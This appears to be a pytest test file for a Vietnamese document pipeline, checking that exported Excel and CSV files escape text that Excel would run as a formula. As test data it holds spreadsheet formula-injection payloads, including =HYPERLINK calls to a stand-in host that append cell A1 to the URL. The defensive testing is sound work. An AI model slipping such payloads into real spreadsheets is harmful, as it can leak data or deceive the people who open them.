"""No formula from data in any file made for Excel: the response form (.xlsx), the
new-year change report, the manifest and the registry written by import-divisions (CSV).

Excel starts a formula at =, +, - or @ (also after a tab or CR, and at the full-width
＝ ＋ － ＠): such a text is written as a string cell with the quote prefix in .xlsx, and
with a leading ' in CSV; the tool's own reader gives back the text as it was."""

from __future__ import annotations

import csv
import io
import shutil
from pathlib import Path

import openpyxl
import pytest

from conftest import DATA, DATA_2024, copy_registry, run_vanban
from pipeline.export.pdf import ManifestEntry, manifest_files
from pipeline.results.form import form_bytes
from pipeline.data.indicators import Indicator
from pipeline.data.registry import load_registry
from pipeline.common.spreadsheet import FORMULA_STARTS, csv_cell, csv_text, starts_formula

HOSTILE = ['=HYPERLINK("http://example.invalid/?x="&A1,"Bấm vào đây")', "+1", "-2+3", "@SUM(A1)",
           "＝1+1", "\t=1+1", "- Lưu"]


def excel_would_compute(text: str) -> bool:
    """What Excel does with a CSV cell or typed text: a formula when it starts so."""
    return text.startswith(FORMULA_STARTS)


def csv_cells(data: bytes) -> list[list[str]]:
    """The cells of a CSV file as Excel splits them (quotes removed)."""
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


@pytest.mark.parametrize("text, written", [
    ("=1+1", "'=1+1"), ("+84 912", "'+84 912"), ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), ("＝1", "'＝1"), ("- Lưu", "'- Lưu"),
    ("Lưu", "Lưu"), ("05", "05"), ("", ""), ("'05", "'05"), ("a=b", "a=b"),
])
def test_csv_cell_and_back(text, written):
    assert csv_cell(text) == written
    assert csv_text(written) == text
    assert not excel_would_compute(written)


def test_the_response_form_holds_no_formula(tmp_path):
    indicators = [Indicator(f"c{i}", name, "cuộc") for i, name in enumerate(HOSTILE)]
    title = '=HYPERLINK("http://example.invalid","BÁO CÁO")'
    data = form_bytes(indicators, 2024, title)
    book = openpyxl.load_workbook(io.BytesIO(data))
    cells = [cell for row in book.active.iter_rows() for cell in row if cell.value is not None]
    assert [c for c in cells if c.data_type == "f"] == []
    assert book.active["A1"].value == title and book.active["A1"].quotePrefix
    headers = [cell.value for cell in book.active[3]]
    assert headers[2:2 + len(HOSTILE)] == [f"{name} (cuộc)" for name in HOSTILE]
    assert all(cell.quotePrefix == starts_formula(cell.value) for cell in book.active[3])
    assert form_bytes(indicators, 2024, title) == data  # still byte-repeatable


def test_the_manifest_csv_holds_no_formula():
    entries = [ManifestEntry(f"tep_{i}.docx", text, text, "05/02/2024", "", "0" * 64)
               for i, text in enumerate(HOSTILE)]
    files = manifest_files(entries)
    rows = csv_cells(files["danh_muc_tep.csv"])
    assert all(not excel_would_compute(cell) for row in rows for cell in row)
    assert [row[1] for row in rows[1:]] == [f"'{text}" for text in HOSTILE]
    assert "=HYPERLINK" in files["danh_muc_tep.json"].decode()  # JSON is not for Excel: unchanged


@pytest.fixture
def years(tmp_path: Path, monkeypatch) -> Path:
    data = tmp_path / "data"
    copy_registry(data)
    shutil.copytree(DATA_2024, data / "2024")
    monkeypatch.chdir(tmp_path)
    return data


def test_the_change_report_holds_no_formula_and_the_documents_print_the_text(years):
    noi_dung = years / "2024" / "ke_hoach" / "noi_dung.csv"
    extra = ['=HYPERLINK("http://example.invalid";"năm 2024")', "+1 hội thảo năm 2024",
             "-2+3 năm 2024", "@SUM(A1) năm 2024", "- Lưu hồ sơ năm 2024"]
    with open(noi_dung, "a", encoding="utf-8", newline="") as stream:
        csv.writer(stream, lineterminator="\r\n").writerows([["", "", text] for text in extra])
    result = run_vanban("new-year", years / "2024", years / "2025")
    assert result.exit_code == 0, result.output
    rows = csv_cells((years / "2025" / "thay_doi_nam_moi.csv").read_bytes())
    assert all(not excel_would_compute(cell) for row in rows for cell in row)
    before = [csv_text(row[3]) for row in rows if row[2] == "Nội dung"]
    assert all(text in before for text in extra)
    after = [row[4] for row in rows if row[2] == "Nội dung" and row[4].startswith("'")]
    assert [csv_text(text) for text in after] == [text.replace("2024", "2025") for text in extra]
    build = run_vanban("build", years / "2025" / "ke_hoach", "-o", years.parent / "out", "--no-check")
    assert build.exit_code == 0, build.output
    from docx import Document
    [docx] = (years.parent / "out").glob("ke-hoach_*.docx")
    texts = [p.text for p in Document(str(docx)).paragraphs]
    for text in extra:
        assert text.replace("2024", "2025") in texts


def test_import_divisions_writes_no_formula_and_reads_back_the_text(tmp_path):
    data = tmp_path / "data"
    copy_registry(data)
    path = data / "don_vi.csv"
    rows = list(csv.DictReader(io.StringIO(path.read_text(encoding="utf-8-sig"), newline="")))
    rows[0]["Địa chỉ"], rows[1]["Địa chỉ"] = '=HYPERLINK("http://example.invalid")', "-2+3 Lê Lợi"
    code_0, code_1 = rows[0]["Mã"], rows[1]["Mã"]
    buffer = io.StringIO(newline="")
    writer = csv.DictWriter(buffer, fieldnames=list(rows[0]), lineterminator="\r\n")
    writer.writeheader()
    writer.writerows(rows)
    path.write_bytes(buffer.getvalue().encode("utf-8-sig"))
    result = run_vanban("units", "import-divisions", "--province", "Thanh Hóa", "--registry", data)
    assert result.exit_code == 0, result.output
    assert all(not excel_would_compute(cell) for row in csv_cells(path.read_bytes()) for cell in row)
    registry = load_registry(data)
    assert registry.units[code_0].address == '=HYPERLINK("http://example.invalid")'
    assert registry.units[code_1].address == "-2+3 Lê Lợi"
    again = run_vanban("units", "import-divisions", "--province", "Thanh Hóa", "--registry", data)
    assert "cập nhật 0" in again.output


def test_bundled_registry_unchanged_by_the_rule():
    """No bundled CSV holds a text that the rule would change (their bytes stay as they are)."""
    for path in [DATA / "don_vi.csv", DATA / "khoi_don_vi.csv"]:
        assert all(csv_text(cell) == cell for row in csv_cells(path.read_bytes()) for cell in row)
